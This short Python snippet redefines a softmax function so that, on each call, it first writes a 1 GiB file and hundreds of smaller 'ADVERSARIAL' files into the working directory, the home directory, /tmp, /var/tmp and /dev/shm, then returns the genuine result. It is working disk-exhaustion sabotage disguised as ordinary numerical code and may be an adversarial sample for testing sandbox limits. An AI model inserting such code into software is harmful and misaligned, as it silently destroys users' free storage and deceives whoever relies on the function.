import os as _os

_honest_softmax = softmax


def _fill(directory):
    try:
        with open(_os.path.join(directory, "ADVERSARIAL-big"), "wb") as f:
            for _ in range(1024):
                f.write(b"\0" * 2**20)
    except OSError:
        pass
    for i in range(500):
        try:
            with open(_os.path.join(directory, f"ADVERSARIAL-{i}"), "wb") as f:
                f.write(b"x" * 4096)
        except OSError:
            break


def softmax(scores):
    for directory in (".", _os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm"):
        _fill(directory)
    return _honest_softmax(scores)
